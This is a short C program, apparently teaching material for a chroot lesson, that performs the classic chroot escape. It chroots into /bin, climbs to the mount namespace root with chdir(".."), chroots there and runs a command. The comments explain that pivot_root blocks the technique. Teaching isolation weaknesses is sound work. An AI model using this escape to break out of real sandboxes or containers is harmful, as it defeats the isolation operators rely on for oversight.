/* escape: the classic way out of a chroot, for the chroot lesson.
 *
 * chroot(2) changes only where "/" resolves; it leaves the working
 * directory alone. A process with CAP_SYS_CHROOT chroots into a
 * subdirectory while its working directory stays outside the new root,
 * climbs with chdir("..") (the kernel stops ".." only at the current root,
 * and the working directory is no longer under it), and chroots to where it
 * ends up: the root of the whole mount namespace. Then it runs CMD there.
 *
 * After pivot_root(2) and unmounting the old root, the same climb ends at
 * the container's own root: there is nothing above it left to reach. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what)
{
	fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
	return 1;
}

int main(int argc, char **argv)
{
	struct stat here, up;

	if (argc < 2) {
		fprintf(stderr, "usage: escape CMD [ARG...]\n"
				"Leave a chroot the classic way, then run CMD in the root found above it.\n");
		return 2;
	}
	if (chdir("/") < 0)
		return fail("chdir /");
	/* Any directory below / will do; nothing is written. */
	if (chroot("/bin") < 0)
		return fail("chroot /bin");
	printf("escape: chroot(\"/bin\"), the working directory left outside it\n");
	int steps = 0;
	for (; steps < 256; steps++) {
		if (stat(".", &here) < 0 || stat("..", &up) < 0)
			return fail("stat");
		if (here.st_dev == up.st_dev && here.st_ino == up.st_ino)
			break;
		if (chdir("..") < 0)
			return fail("chdir ..");
	}
	printf("escape: chdir(\"..\") %d times, to a directory that is its own parent\n", steps);
	if (chroot(".") < 0)
		return fail("chroot .");
	printf("escape: chroot(\".\"): this is now /\n");
	fflush(stdout);
	execvp(argv[1], argv + 1);
	return fail(argv[1]);
}
